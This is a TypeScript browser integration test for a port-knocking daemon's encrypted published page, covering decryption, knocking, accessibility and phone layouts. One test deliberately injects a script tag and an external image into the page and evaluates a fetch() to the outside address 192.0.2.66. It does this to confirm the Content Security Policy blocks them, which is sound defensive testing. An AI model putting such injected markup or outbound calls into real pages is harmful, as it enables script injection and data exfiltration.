// Goal: whoever has a browser and their identity gets in by the published page alone: a real Chromium fetches page and list from a
// real nginx, decrypts in the browser, and knocks; the real daemon opens the door. Nothing is asked of anybody else.
import { execFileSync } from 'node:child_process'
import { existsSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { Encrypter, armor } from 'age-encryption'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { WORK_FACTOR } from '../../src/publish/page/sealed.ts'
import { SLOW, sample } from '../slow.ts'
import { HAS_CHROMIUM, axeFindings, openTab, startChromium } from './chromium.ts'
import { CHEAP_WORK_FACTOR } from './client-page.ts'
import { startKnockd } from './knockd.ts'
import { IS_ROOT, CLIENT_4, SERVER_4, pair } from './net.ts'
import type { Host } from './net.ts'
import { HAS_NGINX, startNginx } from './nginx.ts'
import type { WebServer } from './nginx.ts'
import { LINE_LIMIT_MS } from './lines.ts'
import { until } from './process.ts'
import type { Process } from './process.ts'
import { scratch } from './scratch.ts'
import { watchWire } from './service.ts'

/** Where pictures of the page are left, if wanted: they are for people to look at. */
const { PICTURES } = process.env
const LIMIT_MS = 180_000
const PHONE = { viewport: { width: 390, height: 844 }, deviceScaleFactor: 2, isMobile: true }

let server: Host
let client: Host
let web: WebServer
let browser: Browser
let running: Process | undefined

interface Set {
  readonly daemon: Process
  readonly identity: string
  readonly notes: string
  readonly folder: string
  readonly ports: () => readonly number[]
}

/** A daemon that publishes its list by nginx. */
const setUp = async (lines: readonly string[], passphrase?: string): Promise<Set> => {
  const { folder } = web
  const file = scratch('identity')
  execFileSync('age-keygen', ['-o', file], { stdio: 'ignore' })
  const recipient = execFileSync('age-keygen', ['-y', file], { encoding: 'utf8' }).trim()
  const identity = /AGE-SECRET-KEY-\S+/.exec(readFileSync(file, 'utf8'))![0]
  const secret = scratch('passphrase')
  writeFileSync(secret, `${passphrase ?? ''}\n`, { mode: 0o600 })
  const notes = scratch('notes')
  const config = [
    '[ssh]',
    'One_Time_Sequences = generate',
    `Publish_To = ${folder}`,
    passphrase === undefined ? `Publish_For = ${recipient}` : `Publish_Passphrase_File = ${secret}`,
    ...lines,
    `Start_Command = echo %IP% >> ${notes}`,
    '',
  ].join('\n')
  const { process: daemon } = await startKnockd({ host: server, config })
  running = daemon
  // A passphrase is stretched by scrypt first, which takes its time on a busy machine.
  await until('the page', () => existsSync(join(folder, 'ssh.html')), LIMIT_MS)
  const ports = (): readonly number[] => {
    const text = execFileSync('age', ['-d', '-i', file, join(folder, 'ssh.age')], { encoding: 'utf8' })
    return text
      .split('\n')
      .find((line) => line !== '' && !line.startsWith('#'))!
      .split(',')
      .map(Number)
  }
  return { daemon, identity, notes, folder, ports }
}

const openings = (notes: string): readonly string[] =>
  readFileSync(notes, { encoding: 'utf8', flag: 'a+' }).split('\n').filter(Boolean)

const unlock = async (page: Page, key: string): Promise<void> => {
  await page.fill('#key', key)
  await page.press('#key', 'Enter')
}

const shown = async (page: Page): Promise<readonly number[]> =>
  (await page.locator('#ports b').allTextContents()).map(Number)

/** Waits until an element is visible and its text matches. */
const see = async (page: Page, selector: string, pattern: RegExp, timeout = LINE_LIMIT_MS): Promise<void> =>
  await page.locator(selector).filter({ hasText: pattern, visible: true }).waitFor({ timeout })

/** The findings of axe, and a picture. */
const look = async (page: Page, name: string): Promise<void> => {
  expect(await axeFindings(page)).toEqual([])
  if (PICTURES !== undefined) await page.screenshot({ path: join(PICTURES, `${name}.png`), fullPage: true })
}

// Debian's nginx starts by itself once it is installed, so that script/test asks for it only where CI is set.
describe.skipIf(!IS_ROOT || !HAS_NGINX || !HAS_CHROMIUM)('the published page', () => {
  beforeAll(async () => {
    ;({ server, client } = await pair())
    web = await startNginx(server)
    browser = await startChromium(client)
  }, LIMIT_MS)
  afterEach(async () => {
    for (const context of browser.contexts()) await context.close()
    await running?.stop()
    running = undefined
    for (const name of readdirSync(web.folder)) rmSync(join(web.folder, name))
  })
  afterAll(async () => await browser.close())

  test(
    'decrypts with a pasted identity, shows what the list has, and opens the door from the browser',
    async () => {
      const { daemon, identity, notes, ports } = await setUp([`Publish_Host = ${SERVER_4}`])
      const { page, requests, complaints } = await openTab(browser)
      const wire = await watchWire(client, `src host ${CLIENT_4} and not dst host ${SERVER_4}`)
      await page.goto(`http://${SERVER_4}/ssh.html`)
      await see(page, '#lock', /Identity or passphrase/)
      await look(page, 'locked-desktop-light')
      const first = ports()
      await unlock(page, identity)
      await see(page, '#sequence', /Next sequence/)
      await see(page, '#ports', /tcp/)
      expect(await shown(page)).toEqual(first)
      await see(page, '#left', /^20$/)
      // Without SLOW it is looked at again once it has knocked.
      if (SLOW) await look(page, 'open-desktop-light')
      await page.click('#knock')
      expect(await daemon.line(/OPEN/)).toBe(`${CLIENT_4}: ssh: OPEN SESAME`)
      await see(page, '#status', /Knocked/)
      await until('the opening', () => openings(notes).length === 1)
      await until('the next list', () => ports().join() !== first.join())
      // The next one, fetched anew: the sequence that was used is not shown again.
      await page.click('#next')
      await until('the next sequence', async () => (await shown(page)).join() === ports().join())
      await see(page, '#left', /^19$/)
      await look(page, 'knocked-desktop-light')
      const own = new RegExp(`^http://${SERVER_4.replaceAll('.', '\\.')}(:[0-9]+)?/`)
      expect(requests.filter((url) => !own.test(url) && !url.startsWith('data:'))).toEqual([])
      // That a knocked port refuses is no fault of the page.
      expect(complaints.filter((text) => !/ERR_CONNECTION_REFUSED|ERR_ABORTED/.test(text))).toEqual([])
      await wire.stop()
      expect(wire.lines.filter((line) => /^IP6? /.test(line) && !/(ARP|ICMP6|ff02::)/.test(line))).toEqual([])
    },
    LIMIT_MS,
  )

  test(
    'lets nothing out: what somebody wrote into it would not run, nor reach anybody else',
    async () => {
      const { identity, folder } = await setUp([])
      const { page, complaints } = await openTab(browser)
      const html = readFileSync(join(folder, 'ssh.html'), 'utf8')
      const injected = '<script>window.stolen = 1</script><img src="http://192.0.2.66/x.png">'
      writeFileSync(join(folder, 'ssh.html'), html.replace('<main', `${injected}<main`))
      await page.goto(`http://${SERVER_4}/ssh.html`)
      await unlock(page, identity)
      await see(page, '#sequence', /Next sequence/)
      expect(await page.evaluate('window.stolen ?? null')).toBeNull()
      const answer = `fetch('http://192.0.2.66/?' + 'x').then(() => 'sent', (error) => String(error))`
      expect(await page.evaluate(answer)).toMatch(/TypeError/)
      expect(complaints.join('\n')).toMatch(/Content Security Policy/)
      // Without Publish_Host it knocks nowhere, and says what to do.
      expect(await page.evaluate(`document.querySelector('#knock').checkVisibility()`)).toBe(false)
      await see(page, '#commands', /telnet/)
    },
    LIMIT_MS,
  )

  test(
    'on a phone, in the dark, with a passphrase; a wrong one and a list that is gone are told',
    async () => {
      const passphrase = 'correct horse battery staple'
      const { folder } = await setUp([`Publish_Host = ${SERVER_4}`], passphrase)
      const list = join(folder, 'ssh.age')
      const published = readFileSync(list)
      // That a passphrase is wrong is seen by a list that is soon tried.
      const encrypter = new Encrypter()
      encrypter.setPassphrase(passphrase)
      encrypter.setScryptWorkFactor(SLOW ? WORK_FACTOR : CHEAP_WORK_FACTOR)
      writeFileSync(list, armor.encode(await encrypter.encrypt('# Postern sequences, format 1\n')))
      const { page } = await openTab(browser, { ...PHONE, colorScheme: 'dark' })
      await page.goto(`http://${SERVER_4}/ssh.html`)
      // Without SLOW it is looked at again with what is wrong.
      if (SLOW) await look(page, 'locked-phone-dark')
      await unlock(page, 'wrong horse')
      await see(page, '#trouble', /passphrase|identity/i, LIMIT_MS)
      await look(page, 'trouble-phone-dark')
      writeFileSync(list, published)
      await unlock(page, passphrase)
      await see(page, '#sequence', /Next sequence/, LIMIT_MS)
      // Without SLOW in the dark alone: light is the desktop's.
      for (const colorScheme of sample(['light', 'dark'] as const, (each) => each === 'dark')) {
        await page.emulateMedia({ colorScheme })
        await look(page, `open-phone-${colorScheme}`)
      }
      // Nothing has to be scrolled sideways, down to the narrowest phone there is.
      await page.setViewportSize({ width: 320, height: 640 })
      expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(320)
      if (SLOW) await look(page, 'open-narrow-dark')
      rmSync(list)
      const { page: other } = await openTab(browser, { ...PHONE, colorScheme: 'light' })
      await other.goto(`http://${SERVER_4}/ssh.html`)
      await unlock(other, passphrase)
      await see(other, '#trouble', /list/)
      await look(other, 'gone-phone-light')
    },
    LIMIT_MS,
  )
})
